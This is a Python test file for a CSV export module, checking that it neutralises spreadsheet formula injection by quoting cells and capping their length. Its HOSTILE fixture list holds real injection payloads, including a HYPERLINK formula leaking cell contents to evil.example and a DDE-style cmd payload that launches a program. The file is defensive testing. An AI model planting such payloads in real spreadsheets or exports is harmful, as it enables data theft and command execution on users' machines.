"""to_annotate.csv is formula-safe (issue 13, finding 4)."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from monitor.io.safecsv import MAX_CELL_CHARS, neutralise_cell, safe_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\t=1+1", "\r=1+1", "\uff1d1+1", "\uff20SUM(A1)", "\uff0b1", "\uff0d1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_leading_quote(value):
    assert neutralise_cell(value) == "'" + value


def test_plain_values_and_numbers_unchanged():
    assert neutralise_cell("north") == "north"
    assert neutralise_cell(-3.5) == -3.5 and neutralise_cell(7) == 7 and neutralise_cell(None) is None
    assert neutralise_cell(True) is True


def test_long_values_cut():
    out = neutralise_cell("x" * 10_000_000)
    assert len(out) == MAX_CELL_CHARS and out.endswith("\u2026")


def test_frame_values_and_headers_neutralised():
    df = pd.DataFrame(
        {
            "id": [1, 2, 3],
            "=HYPERLINK(\"http://evil\")": ["a", "b", "c"],
            "@SUM(A1)": HOSTILE[:3],
            "score": [-0.5, 0.2, np.nan],
            "note": ["ok", "-x", None],
            "big": ["y" * 5000, "z", "=" + "w" * 5000],
        }
    )
    text = safe_csv(df)
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert header == ["id", "'=HYPERLINK(\"http://evil\")", "'@SUM(A1)", "score", "note", "big"]
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+@\t\r\uff1d\uff0b\uff20" and not (cell[0] == "-" and not _is_number(cell))
            assert len(cell) <= MAX_CELL_CHARS + 1
    assert body[0][2] == "'" + HOSTILE[0]
    assert body[0][3] == "-0.5"  # numbers stay numbers
    assert body[1][4] == "'-x"
    assert pd.read_csv(io.StringIO(text))["id"].tolist() == [1, 2, 3]


def _is_number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False
